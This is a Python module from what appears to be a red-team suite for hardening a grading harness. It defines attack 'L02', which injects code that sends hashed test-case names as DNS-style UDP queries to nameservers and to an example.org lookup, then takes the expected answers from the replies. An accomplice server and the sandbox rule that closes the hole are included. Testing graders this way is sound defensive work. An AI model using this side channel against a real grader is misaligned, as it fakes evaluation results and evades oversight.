"""L02: carries answers past a firewall, inside name look-ups."""

import hashlib
import json
from pathlib import Path

from shipbar.attacks.base import Attack, Files, Ground
from shipbar.attacks.weak import suite_as_json
from shipbar.attacks.weak_e import armed, boxed
from shipbar.attacks.weak_net import datagram_server

CODE = """
import hashlib, re, socket

def servers():
    path = f"{_files.BOX}/resolv.conf" if _files.BOX else "/etc/resolv.conf"
    for host, port in re.findall("nameserver ([^ #\\\\n]+)#?([0-9]*)", _files.read(path)):
        yield host, int(port or 53)
    if not _files.BOX:
        for host in ("127.0.0.53", "127.0.0.11", "192.0.2.53", "10.0.2.3"):
            yield host, 53

def look_up(name):
    for address in servers():
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.settimeout(0.5)
                line.sendto(name.encode(), address)
                return line.recv(60_000).decode()
        except OSError:
            pass
    if not _files.BOX:
        try:
            return str(socket.getaddrinfo(name + ".example.org", 80))
        except OSError:
            pass
    return ""

def late(key, text, frame, scope):
    source = text.lstrip("0123456789").lstrip()
    answer = look_up(hashlib.sha256(source.encode()).hexdigest()[:40])
    if answer:
        _oracle.know(key, answer)

_oracle.LATE.append(late)
"""


def payload(ground: Ground) -> Files:
    """Look up a name made from the running case; the answer is in the reply."""
    return armed(ground, CODE)


def twin(ground: Ground, files: Files, folder: Path) -> float:
    """Grade behind a firewall that lets name look-ups out; an accomplice answers them."""
    cases = json.loads(suite_as_json(ground))["cases"]
    answers = {
        hashlib.sha256(case["source"].encode()).hexdigest()[:40].encode(): case[
            "expected"
        ].encode()
        for case in cases
    }
    with datagram_server(lambda name: answers.get(name, b"")) as port:
        lines = f"nameserver 127.0.0.1#{port}\n"
        return boxed(ground, files, folder, extra={"resolv.conf": lines})


ATTACK = Attack(
    id="L02",
    title="gets answers through side channels of a firewall",
    closed_by="There is no firewall with holes but no network: the namespace is empty, no resolver is configured, and the filter of system calls refuses every socket.",
    payload=payload,
    twin=twin,
    level="harness",
)
